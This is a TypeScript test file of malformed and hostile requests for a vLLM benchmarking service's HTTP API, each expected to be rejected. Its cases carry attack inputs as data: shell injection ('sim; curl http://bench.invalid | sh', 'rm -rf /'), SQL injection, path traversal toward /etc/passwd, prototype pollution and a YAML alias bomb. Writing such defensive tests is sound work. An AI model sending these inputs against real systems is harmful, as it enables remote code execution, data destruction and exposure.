/**
 * Bad requests to the HTTP service, sent with `app.inject` to an app over a seeded SQLite file
 * (http.test.ts). Every state-changing route is tried without a token, with a wrong one, with another
 * scheme and on a service with no token at all — with a valid body, so a missing check would show
 * as a write. Then malformed, mistyped, unknown, oversized and injection-looking inputs.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ErrorCode } from '../../src/errors.js';
import { INGEST_FIXTURES } from './harness.js';

export const TOKEN = 'bad-inputs-token-0123456789abcdef';

export interface HttpCase {
  readonly id: string;
  readonly method: 'GET' | 'POST' | 'PUT' | 'DELETE';
  readonly url: string;
  /** A JSON body (sent as application/json). */
  readonly body?: unknown;
  /** A raw body with its own content type. */
  readonly raw?: { readonly payload: string | Buffer; readonly contentType?: string };
  /** ok (default): the right bearer token; none; wrong token; basic scheme; empty bearer. */
  readonly auth?: 'ok' | 'none' | 'wrong' | 'basic' | 'empty';
  /** main (default); no-token: a service without a configured token; rate-limited: at most 2 requests a minute. */
  readonly app?: 'main' | 'no-token' | 'rate-limited';
  /** Send the request this many times and judge the last response (rate limiting). */
  readonly repeat?: number;
  readonly status?: number;
  readonly code?: ErrorCode | readonly ErrorCode[];
  /** The error message must match this. */
  readonly names: RegExp;
}

const fixture = (name: string): string => readFileSync(join(INGEST_FIXTURES, name), 'utf8');
const NEWEST = fixture('vllm-serve-newest.json');
const nanThroughput = (): string => {
  const doc = JSON.parse(fixture('vllm-serve-2025.json')) as Record<string, unknown>;
  return JSON.stringify({ ...doc, date: '20260101-000000' }).replace(/"output_throughput": ?[\d.]+/, '"output_throughput": NaN');
};

const RUNS_OK = { files: [{ name: 'a.json', content: NEWEST }], server_config: { max_num_seqs: 128 }, gpu: 'H100-SXM' };
const runs = (over: Record<string, unknown>): Record<string, unknown> => ({ ...RUNS_OK, ...over });
const STUDY_OK = { name: 'http-new-study', target: 'sim', gpu: 'H100-SXM', gpus: 1, model: 'llama-3.1-8b', workload: 'chat', budget_trials: 1 };
const study = (over: Record<string, unknown>): Record<string, unknown> => ({ ...STUDY_OK, ...over });
const REC_OK = { gpu: 'H100-SXM', gpus: 1, model: 'llama-3.1-8b', workload: 'chat' };
const rec = (over: Record<string, unknown>): Record<string, unknown> => ({ ...REC_OK, ...over });

const INVALID = 'LMB_ERR_INVALID_ARGUMENT';
const AUTH_RE = /bearer token|Authorization|API token/;

/** The state-changing routes, each with a body that would be accepted with the token. */
const WRITES: readonly { name: string; url: string; body: unknown }[] = [
  { name: 'runs', url: '/v1/runs', body: RUNS_OK },
  { name: 'studies', url: '/v1/studies', body: STUDY_OK },
  { name: 'study-stop', url: '/v1/studies/1/stop', body: {} },
  { name: 'study-resume', url: '/v1/studies/1/resume', body: {} },
  { name: 'models-train', url: '/v1/models/train', body: { folds: 0 } },
];

const authCases: HttpCase[] = WRITES.flatMap((w) => [
  ...(['none', 'wrong', 'basic', 'empty'] as const).map(
    (auth): HttpCase => ({ id: `http-auth-${auth}-${w.name}`, method: 'POST', url: w.url, body: w.body, auth, status: 401, code: 'LMB_ERR_UNAUTHORIZED', names: AUTH_RE }),
  ),
  { id: `http-auth-no-token-service-${w.name}`, method: 'POST', url: w.url, body: w.body, app: 'no-token', status: 401, code: 'LMB_ERR_UNAUTHORIZED', names: /no API token configured/ },
]);

export const HTTP_CASES: readonly HttpCase[] = [
  ...authCases,

  /* ------------------------------------------------ body: transport level */
  { id: 'http-runs-malformed-json', method: 'POST', url: '/v1/runs', raw: { payload: '{"files": [{"name": "a.json",', contentType: 'application/json' }, status: 400, code: INVALID, names: /JSON|body/ },
  { id: 'http-recommendations-malformed-json', method: 'POST', url: '/v1/recommendations', raw: { payload: '{"gpu": "H100-SXM", gpus: 1}', contentType: 'application/json' }, status: 400, code: INVALID, names: /JSON|body/ },
  { id: 'http-studies-malformed-json', method: 'POST', url: '/v1/studies', raw: { payload: '{{{{', contentType: 'application/json' }, status: 400, code: INVALID, names: /JSON|body/ },
  { id: 'http-runs-wrong-content-type', method: 'POST', url: '/v1/runs', raw: { payload: 'files=a.json', contentType: 'text/plain' }, code: INVALID, names: /content.type|media type|text\/plain/i },
  { id: 'http-studies-form-encoded', method: 'POST', url: '/v1/studies', raw: { payload: 'name=x&target=sim', contentType: 'application/x-www-form-urlencoded' }, code: INVALID, names: /content.type|media type|x-www-form-urlencoded/i },
  { id: 'http-runs-empty-json-body', method: 'POST', url: '/v1/runs', raw: { payload: '', contentType: 'application/json' }, status: 400, code: INVALID, names: /body/i },
  { id: 'http-runs-body-array', method: 'POST', url: '/v1/runs', body: [RUNS_OK], status: 400, code: INVALID, names: /body/ },
  { id: 'http-recommendations-body-string', method: 'POST', url: '/v1/recommendations', raw: { payload: '"H100-SXM"', contentType: 'application/json' }, status: 400, code: INVALID, names: /body/ },
  { id: 'http-recommendations-body-null', method: 'POST', url: '/v1/recommendations', raw: { payload: 'null', contentType: 'application/json' }, status: 400, code: INVALID, names: /body/ },
  { id: 'http-runs-oversized-body', method: 'POST', url: '/v1/runs', raw: { payload: JSON.stringify({ files: [{ name: 'big.json', content: 'x'.repeat(9 * 1024 * 1024) }] }), contentType: 'application/json' }, status: 413, code: 'LMB_ERR_BODY_TOO_LARGE', names: /too large|body/i },
  { id: 'http-runs-oversized-body-no-token', method: 'POST', url: '/v1/runs', auth: 'none', raw: { payload: JSON.stringify({ files: [{ name: 'big.json', content: 'x'.repeat(9 * 1024 * 1024) }] }), contentType: 'application/json' }, code: ['LMB_ERR_BODY_TOO_LARGE', 'LMB_ERR_UNAUTHORIZED'], names: /too large|body|bearer token/i },
  { id: 'http-runs-proto-pollution', method: 'POST', url: '/v1/runs', raw: { payload: '{"__proto__": {"polluted": true}, "files": [{"name": "a.json", "content": "{}"}]}', contentType: 'application/json' }, status: 400, code: INVALID, names: /body|JSON|prototype/i },
  { id: 'http-studies-constructor-pollution', method: 'POST', url: '/v1/studies', raw: { payload: '{"constructor": {"prototype": {"polluted": true}}, "name": "x"}', contentType: 'application/json' }, status: 400, code: INVALID, names: /body|JSON|prototype/i },
  { id: 'http-rate-limited', method: 'GET', url: '/v1/runs', app: 'rate-limited', repeat: 3, status: 429, code: 'LMB_ERR_RATE_LIMITED', names: /rate limit/ },

  /* ------------------------------------------------- POST /v1/recommendations */
  { id: 'http-recommendations-missing-gpu', method: 'POST', url: '/v1/recommendations', body: { gpus: 1, model: 'llama-3.1-8b', workload: 'chat' }, status: 400, code: INVALID, names: /body\.gpu\b/ },
  { id: 'http-recommendations-gpus-string', method: 'POST', url: '/v1/recommendations', body: rec({ gpus: 'one' }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-recommendations-gpus-zero', method: 'POST', url: '/v1/recommendations', body: rec({ gpus: 0 }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-recommendations-gpus-float', method: 'POST', url: '/v1/recommendations', body: rec({ gpus: 1.5 }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-recommendations-gpus-huge', method: 'POST', url: '/v1/recommendations', body: rec({ gpus: 1e9 }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-recommendations-gpus-negative', method: 'POST', url: '/v1/recommendations', body: rec({ gpus: -1 }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-recommendations-vllm-version-word', method: 'POST', url: '/v1/recommendations', body: rec({ vllm_version: 'latest' }), status: 400, code: INVALID, names: /body\.vllm_version/ },
  { id: 'http-recommendations-gpu-number', method: 'POST', url: '/v1/recommendations', body: rec({ gpu: 123 }), status: 400, code: INVALID, names: /body\.gpu\b/ },
  { id: 'http-recommendations-gpu-unknown', method: 'POST', url: '/v1/recommendations', body: rec({ gpu: 'GB300' }), status: 400, code: 'LMB_ERR_UNKNOWN_GPU', names: /"GB300"/ },
  { id: 'http-recommendations-model-unknown', method: 'POST', url: '/v1/recommendations', body: rec({ model: 'gpt-9' }), status: 400, code: 'LMB_ERR_UNKNOWN_MODEL', names: /"gpt-9"/ },
  { id: 'http-recommendations-workload-unknown', method: 'POST', url: '/v1/recommendations', body: rec({ workload: 'poetry' }), status: 400, code: 'LMB_ERR_WORKLOAD_INVALID', names: /"poetry"/ },
  { id: 'http-recommendations-workload-traversal', method: 'POST', url: '/v1/recommendations', body: rec({ workload: '../../etc/passwd' }), status: 400, code: [INVALID, 'LMB_ERR_WORKLOAD_INVALID'], names: /workload/ },
  { id: 'http-recommendations-workload-inline-invalid', method: 'POST', url: '/v1/recommendations', body: rec({ workload: { name: 'x', num_prompts: -1 } }), status: 400, code: [INVALID, 'LMB_ERR_WORKLOAD_INVALID'], names: /body\.workload/ },
  { id: 'http-recommendations-slo-unknown-key', method: 'POST', url: '/v1/recommendations', body: rec({ slo: { nonsense_key: 1 } }), status: 400, code: INVALID, names: /body\.slo.*nonsense_key|nonsense_key/ },
  { id: 'http-recommendations-slo-negative', method: 'POST', url: '/v1/recommendations', body: rec({ slo: { ttft_p99_ms: -5 } }), status: 400, code: INVALID, names: /body\.slo\.ttft_p99_ms/ },
  { id: 'http-recommendations-objectives-empty', method: 'POST', url: '/v1/recommendations', body: rec({ objectives: [] }), status: 400, code: INVALID, names: /body\.objectives/ },
  { id: 'http-recommendations-objective-unknown', method: 'POST', url: '/v1/recommendations', body: rec({ objectives: [{ name: 'speed', direction: 'up' }] }), status: 400, code: INVALID, names: /body\.objectives\[0\]/ },
  { id: 'http-recommendations-unknown-field', method: 'POST', url: '/v1/recommendations', body: rec({ colour: 'blue' }), status: 400, code: INVALID, names: /colour/ },
  { id: 'http-recommendations-candidates-too-few', method: 'POST', url: '/v1/recommendations', body: rec({ candidates: 5 }), status: 400, code: INVALID, names: /body\.candidates/ },
  { id: 'http-recommendations-candidates-above-limit', method: 'POST', url: '/v1/recommendations', body: rec({ candidates: 1e9 }), status: 400, code: INVALID, names: /body\.candidates/ },
  { id: 'http-recommendations-seed-negative', method: 'POST', url: '/v1/recommendations', body: rec({ seed: -1 }), status: 400, code: INVALID, names: /body\.seed/ },
  { id: 'http-recommendations-keep-precision-string', method: 'POST', url: '/v1/recommendations', body: rec({ keep_precision: 'yes' }), status: 400, code: INVALID, names: /body\.keep_precision/ },

  /* ------------------------------------------------------------ POST /v1/runs */
  { id: 'http-runs-files-missing', method: 'POST', url: '/v1/runs', body: { gpu: 'H100-SXM' }, status: 400, code: INVALID, names: /body\.files/ },
  { id: 'http-runs-files-empty', method: 'POST', url: '/v1/runs', body: runs({ files: [] }), status: 400, code: INVALID, names: /body\.files/ },
  { id: 'http-runs-files-too-many', method: 'POST', url: '/v1/runs', body: runs({ files: Array.from({ length: 1001 }, (_, i) => ({ name: `f${i}.json`, content: '{}' })) }), status: 400, code: INVALID, names: /body\.files/ },
  { id: 'http-runs-content-number', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: 'a.json', content: 42 }] }), status: 400, code: INVALID, names: /body\.files\[0\]\.content/ },
  { id: 'http-runs-name-empty', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: '', content: NEWEST }] }), status: 400, code: INVALID, names: /body\.files\[0\]\.name/ },
  { id: 'http-runs-name-too-long', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: `${'n'.repeat(501)}.json`, content: NEWEST }] }), status: 400, code: INVALID, names: /body\.files\[0\]\.name/ },
  { id: 'http-runs-file-unknown-field', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: 'a.json', content: NEWEST, path: '/etc/passwd' }] }), status: 400, code: INVALID, names: /body\.files\[0\]\.path/ },
  { id: 'http-runs-unknown-field', method: 'POST', url: '/v1/runs', body: runs({ colour: 'blue' }), status: 400, code: INVALID, names: /colour/ },
  { id: 'http-runs-server-config-unknown-knob', method: 'POST', url: '/v1/runs', body: runs({ server_config: { swap_space: 4 } }), status: 400, code: 'LMB_ERR_UNKNOWN_KNOB', names: /swap_space/ },
  { id: 'http-runs-server-config-not-number', method: 'POST', url: '/v1/runs', body: runs({ server_config: { max_num_seqs: 'lots' } }), status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /server_config\.max_num_seqs/ },
  { id: 'http-runs-server-config-gmu-above-one', method: 'POST', url: '/v1/runs', body: runs({ server_config: { gpu_memory_utilization: 1.5 } }), status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /server_config\.gpu_memory_utilization/ },
  { id: 'http-runs-gpu-unknown', method: 'POST', url: '/v1/runs', body: runs({ gpu: 'TPU-v9' }), status: 400, code: 'LMB_ERR_UNKNOWN_GPU', names: /"TPU-v9"/ },
  { id: 'http-runs-model-unknown', method: 'POST', url: '/v1/runs', body: runs({ model: 'gpt-9' }), status: 400, code: 'LMB_ERR_UNKNOWN_MODEL', names: /"gpt-9"/ },
  { id: 'http-runs-gpus-zero', method: 'POST', url: '/v1/runs', body: runs({ gpus: 0 }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-runs-truncated-file', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: 'broken.json', content: NEWEST.slice(0, 200) }] }), status: 400, code: 'LMB_ERR_INGEST_REJECTED', names: /broken\.json.*JSON/ },
  {
    id: 'http-runs-valid-and-invalid-all-or-nothing',
    method: 'POST',
    url: '/v1/runs',
    body: runs({ files: [{ name: 'good.json', content: NEWEST }, { name: 'broken.json', content: '{"date": ' }] }),
    status: 400,
    code: 'LMB_ERR_INGEST_REJECTED',
    names: /broken\.json/,
  },
  { id: 'http-runs-unknown-format', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: 'odd.json', content: { hello: 'world' } }] }), status: 400, code: 'LMB_ERR_INGEST_REJECTED', names: /odd\.json.*hello/ },
  { id: 'http-runs-nan-throughput', method: 'POST', url: '/v1/runs', body: runs({ files: [{ name: 'nan.json', content: nanThroughput() }] }), status: 400, code: 'LMB_ERR_INGEST_REJECTED', names: /nan\.json.*output_throughput/ },
  { id: 'http-runs-sidecar-syntax', method: 'POST', url: '/v1/runs', body: runs({ server_config: undefined, files: [{ name: 'a.json', content: NEWEST, sidecar_yaml: 'max_num_seqs: [64\n' }] }), status: 400, code: 'LMB_ERR_INGEST_REJECTED', names: /a\.json\.config\.yaml:\d+/ },
  {
    id: 'http-runs-sidecar-yaml-bomb',
    method: 'POST',
    url: '/v1/runs',
    body: runs({ files: [{ name: 'a.json', content: NEWEST, sidecar_yaml: 'a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n' }] }),
    status: 400,
    code: 'LMB_ERR_INGEST_REJECTED',
    names: /a\.json\.config\.yaml/,
  },
  { id: 'http-runs-sidecar-unknown-knob', method: 'POST', url: '/v1/runs', body: runs({ server_config: undefined, files: [{ name: 'a.json', content: NEWEST, sidecar_yaml: 'swap_space: 4\n' }] }), status: 400, code: 'LMB_ERR_INGEST_REJECTED', names: /a\.json\.config\.yaml:\d+.*swap_space/ },

  /* --------------------------------------------------------- POST /v1/studies */
  { id: 'http-studies-name-traversal', method: 'POST', url: '/v1/studies', body: study({ name: '../evil' }), status: 400, code: INVALID, names: /body\.name/ },
  { id: 'http-studies-name-too-long', method: 'POST', url: '/v1/studies', body: study({ name: 's'.repeat(201) }), status: 400, code: INVALID, names: /body\.name/ },
  { id: 'http-studies-name-empty', method: 'POST', url: '/v1/studies', body: study({ name: '' }), status: 400, code: INVALID, names: /body\.name/ },
  { id: 'http-studies-target-missing', method: 'POST', url: '/v1/studies', body: study({ target: undefined }), status: 400, code: INVALID, names: /body\.target/ },
  { id: 'http-studies-target-unknown', method: 'POST', url: '/v1/studies', body: study({ target: 'gpu-farm' }), status: 400, code: 'LMB_ERR_TARGET_PROFILE_UNKNOWN', names: /"gpu-farm"/ },
  { id: 'http-studies-target-shell-injection', method: 'POST', url: '/v1/studies', body: study({ target: 'sim; curl http://bench.invalid | sh' }), status: 400, code: 'LMB_ERR_TARGET_PROFILE_UNKNOWN', names: /target profile/ },
  { id: 'http-studies-target-command-object', method: 'POST', url: '/v1/studies', body: study({ target: { kind: 'command', command: 'rm -rf /' } }), status: 400, code: INVALID, names: /body\.target/ },
  { id: 'http-studies-budget-zero', method: 'POST', url: '/v1/studies', body: study({ budget_trials: 0 }), status: 400, code: INVALID, names: /body\.budget_trials/ },
  { id: 'http-studies-budget-above-limit', method: 'POST', url: '/v1/studies', body: study({ budget_trials: 501 }), status: 400, code: INVALID, names: /body\.budget_trials/ },
  { id: 'http-studies-budget-string', method: 'POST', url: '/v1/studies', body: study({ budget_trials: 'ten' }), status: 400, code: INVALID, names: /body\.budget_trials/ },
  { id: 'http-studies-parallel-above-limit', method: 'POST', url: '/v1/studies', body: study({ parallel: 9 }), status: 400, code: INVALID, names: /body\.parallel/ },
  { id: 'http-studies-gpus-above-max', method: 'POST', url: '/v1/studies', body: study({ gpus: 65 }), status: 400, code: INVALID, names: /body\.gpus/ },
  { id: 'http-studies-gpu-unknown', method: 'POST', url: '/v1/studies', body: study({ gpu: 'TPU-v9' }), status: 400, code: 'LMB_ERR_UNKNOWN_GPU', names: /"TPU-v9"/ },
  { id: 'http-studies-model-unknown', method: 'POST', url: '/v1/studies', body: study({ model: 'gpt-9' }), status: 400, code: 'LMB_ERR_UNKNOWN_MODEL', names: /"gpt-9"/ },
  { id: 'http-studies-workload-unknown', method: 'POST', url: '/v1/studies', body: study({ workload: 'poetry' }), status: 400, code: 'LMB_ERR_WORKLOAD_INVALID', names: /"poetry"/ },
  { id: 'http-studies-enqueue-unknown-knob', method: 'POST', url: '/v1/studies', body: study({ enqueue: [{ swap_space: 4 }] }), status: 400, code: 'LMB_ERR_UNKNOWN_KNOB', names: /enqueue\[0\]\.swap_space/ },
  { id: 'http-studies-enqueue-out-of-domain', method: 'POST', url: '/v1/studies', body: study({ enqueue: [{ max_num_seqs: -3 }] }), status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /enqueue\[0\]\.max_num_seqs/ },
  { id: 'http-studies-enqueue-breaks-rule', method: 'POST', url: '/v1/studies', body: study({ enqueue: [{ tensor_parallel_size: 8 }] }), status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /enqueue\[0\]/ },
  { id: 'http-studies-enqueue-too-many', method: 'POST', url: '/v1/studies', body: study({ enqueue: Array.from({ length: 101 }, () => ({ max_num_seqs: 64 })) }), status: 400, code: INVALID, names: /body\.enqueue/ },
  { id: 'http-studies-sampler-unknown', method: 'POST', url: '/v1/studies', body: study({ sampler: 'grid' }), status: 400, code: INVALID, names: /body\.sampler/ },
  { id: 'http-studies-measure-unknown', method: 'POST', url: '/v1/studies', body: study({ measure: 'fastest' }), status: 400, code: INVALID, names: /body\.measure/ },
  { id: 'http-studies-budget-hours-negative', method: 'POST', url: '/v1/studies', body: study({ budget_hours: -1 }), status: 400, code: INVALID, names: /body\.budget_hours/ },
  { id: 'http-studies-unknown-field', method: 'POST', url: '/v1/studies', body: study({ command: 'vllm serve --evil' }), status: 400, code: INVALID, names: /command/ },
  { id: 'http-studies-name-exists-different-spec', method: 'POST', url: '/v1/studies', body: study({ name: 'seeded-study', budget_trials: 7 }), status: 409, code: 'LMB_ERR_STUDY_EXISTS', names: /seeded-study/ },

  /* ------------------------------------------------ studies by id, reports */
  { id: 'http-study-stop-traversal', method: 'POST', url: '/v1/studies/..%2F..%2Fetc/stop', body: {}, status: 400, code: INVALID, names: /params\.id/ },
  { id: 'http-study-stop-unknown', method: 'POST', url: '/v1/studies/nope/stop', body: {}, status: 404, code: 'LMB_ERR_STUDY_NOT_FOUND', names: /"nope"/ },
  { id: 'http-study-resume-unknown-id', method: 'POST', url: '/v1/studies/999999/resume', body: {}, status: 404, code: 'LMB_ERR_STUDY_NOT_FOUND', names: /999999/ },
  { id: 'http-study-resume-nul-byte', method: 'POST', url: '/v1/studies/%00/resume', body: {}, status: 400, code: INVALID, names: /params\.id/ },
  { id: 'http-study-get-traversal', method: 'GET', url: '/v1/studies/..%2F..%2Fetc', status: 400, code: INVALID, names: /params\.id/ },
  { id: 'http-study-get-sql-injection', method: 'GET', url: `/v1/studies/${encodeURIComponent("'; DROP TABLE studies;--")}`, status: 400, code: INVALID, names: /params\.id/ },
  { id: 'http-study-get-unknown', method: 'GET', url: '/v1/studies/nope', status: 404, code: 'LMB_ERR_STUDY_NOT_FOUND', names: /"nope"/ },
  { id: 'http-report-traversal', method: 'GET', url: '/v1/studies/..%2F..%2Fetc/report', status: 400, code: INVALID, names: /params\.id/ },
  { id: 'http-report-unknown-study', method: 'GET', url: '/v1/studies/nope/report', status: 404, code: 'LMB_ERR_STUDY_NOT_FOUND', names: /"nope"/ },
  { id: 'http-plot-kind-traversal', method: 'GET', url: '/v1/studies/1/plots/..%2F..%2Fx.svg', status: 400, code: INVALID, names: /params\.kind/ },
  { id: 'http-plot-kind-traversal-raw', method: 'GET', url: '/v1/studies/1/plots/../../x.svg', code: ['LMB_ERR_NOT_FOUND', 'LMB_ERR_STUDY_NOT_FOUND', INVALID], names: /x\.svg|plots|route/ },
  { id: 'http-plot-kind-unknown', method: 'GET', url: '/v1/studies/1/plots/nope.svg', status: 404, code: 'LMB_ERR_NOT_FOUND', names: /"nope"/ },
  { id: 'http-plot-unknown-study', method: 'GET', url: '/v1/studies/nope/plots/pareto_ttft.svg', status: 404, code: 'LMB_ERR_STUDY_NOT_FOUND', names: /"nope"/ },

  /* ------------------------------------------------------------- GET /v1/runs */
  { id: 'http-runs-filter-sql-injection-knob', method: 'GET', url: '/v1/runs?config.max_num_seqs=1%20OR%201=1', status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /config\.max_num_seqs/ },
  { id: 'http-runs-filter-sql-injection-model', method: 'GET', url: `/v1/runs?model=${encodeURIComponent("'; DROP TABLE runs;--")}`, status: 400, code: 'LMB_ERR_UNKNOWN_MODEL', names: /DROP TABLE runs/ },
  { id: 'http-runs-filter-sql-injection-gpu', method: 'GET', url: `/v1/runs?gpu=${encodeURIComponent("' OR 1=1 --")}`, status: 400, code: 'LMB_ERR_UNKNOWN_GPU', names: /OR 1=1/ },
  { id: 'http-runs-filter-unknown-knob', method: 'GET', url: '/v1/runs?config.swap_space=4', status: 400, code: 'LMB_ERR_UNKNOWN_KNOB', names: /config\.swap_space/ },
  { id: 'http-runs-filter-knob-not-number', method: 'GET', url: '/v1/runs?config.max_num_seqs=abc', status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /config\.max_num_seqs/ },
  { id: 'http-runs-filter-bool-knob-word', method: 'GET', url: '/v1/runs?config.enforce_eager=maybe', status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /config\.enforce_eager/ },
  { id: 'http-runs-filter-knob-empty', method: 'GET', url: '/v1/runs?config.max_num_seqs=', status: 400, code: 'LMB_ERR_KNOB_OUT_OF_DOMAIN', names: /config\.max_num_seqs/ },
  { id: 'http-runs-limit-negative', method: 'GET', url: '/v1/runs?limit=-1', status: 400, code: INVALID, names: /query\.limit/ },
  { id: 'http-runs-limit-zero', method: 'GET', url: '/v1/runs?limit=0', status: 400, code: INVALID, names: /query\.limit/ },
  { id: 'http-runs-limit-huge', method: 'GET', url: '/v1/runs?limit=1000000000', status: 400, code: INVALID, names: /query\.limit/ },
  { id: 'http-runs-limit-word', method: 'GET', url: '/v1/runs?limit=abc', status: 400, code: INVALID, names: /query\.limit/ },
  { id: 'http-runs-limit-float', method: 'GET', url: '/v1/runs?limit=1.5', status: 400, code: INVALID, names: /query\.limit/ },
  { id: 'http-runs-limit-repeated', method: 'GET', url: '/v1/runs?limit=1&limit=2', status: 400, code: INVALID, names: /query\.limit/ },
  { id: 'http-runs-offset-negative', method: 'GET', url: '/v1/runs?offset=-5', status: 400, code: INVALID, names: /query\.offset/ },
  { id: 'http-runs-offset-huge', method: 'GET', url: `/v1/runs?offset=1${'0'.repeat(400)}`, status: 400, code: INVALID, names: /query\.offset/ },
  { id: 'http-runs-source-format-unknown', method: 'GET', url: '/v1/runs?source_format=excel', status: 400, code: INVALID, names: /query\.source_format/ },
  { id: 'http-runs-unknown-query', method: 'GET', url: '/v1/runs?foo=bar', status: 400, code: INVALID, names: /foo/ },
  { id: 'http-runs-query-gpus-zero', method: 'GET', url: '/v1/runs?gpus=0', status: 400, code: INVALID, names: /query\.gpus/ },

  /* ---------------------------------------------------- models, routes */
  { id: 'http-train-folds-huge', method: 'POST', url: '/v1/models/train', body: { folds: 100 }, status: 400, code: INVALID, names: /body\.folds/ },
  { id: 'http-train-folds-one', method: 'POST', url: '/v1/models/train', body: { folds: 1 }, status: 400, code: INVALID, names: /body\.folds.*at least 2/ },
  { id: 'http-train-members-zero', method: 'POST', url: '/v1/models/train', body: { members: 0 }, status: 400, code: INVALID, names: /body\.members/ },
  { id: 'http-train-rounds-string', method: 'POST', url: '/v1/models/train', body: { rounds: 'many' }, status: 400, code: INVALID, names: /body\.rounds/ },
  { id: 'http-train-unknown-field', method: 'POST', url: '/v1/models/train', body: { colour: 'blue' }, status: 400, code: INVALID, names: /colour/ },
  { id: 'http-train-malformed-json', method: 'POST', url: '/v1/models/train', raw: { payload: '{"folds": ', contentType: 'application/json' }, status: 400, code: INVALID, names: /JSON|body/ },
  { id: 'http-train-thin-history', method: 'POST', url: '/v1/models/train', body: { folds: 0 }, status: 422, code: 'LMB_ERR_HISTORY_TOO_THIN', names: /runs/ },
  { id: 'http-unknown-route', method: 'GET', url: '/v1/nope', status: 404, code: 'LMB_ERR_NOT_FOUND', names: /\/v1\/nope/ },
  { id: 'http-delete-runs', method: 'DELETE', url: '/v1/runs', status: 404, code: 'LMB_ERR_NOT_FOUND', names: /DELETE \/v1\/runs/ },
  { id: 'http-put-study', method: 'PUT', url: '/v1/studies/1', body: { state: 'done' }, status: 404, code: 'LMB_ERR_NOT_FOUND', names: /PUT \/v1\/studies\/1/ },
];
